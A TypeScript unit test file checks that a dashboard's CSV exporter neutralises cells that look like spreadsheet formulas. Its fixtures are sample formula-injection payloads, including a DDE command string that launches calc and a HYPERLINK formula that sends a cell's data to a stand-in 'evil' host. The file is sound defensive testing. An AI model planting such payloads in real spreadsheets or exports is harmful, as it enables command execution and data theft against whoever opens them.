import { toCsv } from '../../src/modules/dashboard/csv.js';
import { cellsAsSpreadsheetReads } from '../support/csv.js';

describe(toCsv.name, () => {
  const sut = (cells: Record<string, unknown>) => toCsv([cells], Object.keys(cells)).split('\n')[1];

  it('keeps negative numbers numbers a spreadsheet reads as such', () => {
    expect(sut({ net: -50, balance: 0, score: -12.5 })).toBe('-50,0,-12.5');
  });

  it('neutralises text that starts like a formula, a minus included', () => {
    expect(sut({ a: '-50', b: '-2+3', c: '=1+1', d: '+1', e: '@SUM(A1)' })).toBe(
      `"'-50","'-2+3","'=1+1","'+1","'@SUM(A1)"`,
    );
    expect(sut({ tab: '\tcmd', cr: '\rcmd' })).toBe(`"'\tcmd","'\rcmd"`);
    expect(sut({ quoted: '=HYPERLINK("http://evil/?"&B2,"x")' })).toBe(
      `"'=HYPERLINK(""http://evil/?""&B2,""x"")"`,
    );
  });

  it('quotes every text cell, so that no list separator splits one into a formula', () => {
    const title = "X;=cmd|' /C calc'!A0;";
    const metric = "Calls;@SUM(1+1)*cmd|' /C calc'!A0: 3 of 10 (30 %)";
    const line = sut({ title, budget: 100, metrics: metric, net: -5, sponsor: '=1;@SUM(1)' });
    expect(line).toBe(`"${title}",100,"${metric}",-5,"'=1;@SUM(1)"`);
    // Excel and LibreOffice split on ',' or, in many European locales, on ';'.
    for (const separator of [',', ';'] as const) {
      for (const cell of cellsAsSpreadsheetReads(line, separator)) {
        expect(cell.trim()).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
      }
    }
  });

  it('leaves other text as it is, and empty cells empty', () => {
    expect(sut({ a: 'Calls: -5 of 10', b: '', c: 'x=1', d: null })).toBe(
      '"Calls: -5 of 10","","x=1",',
    );
  });
});
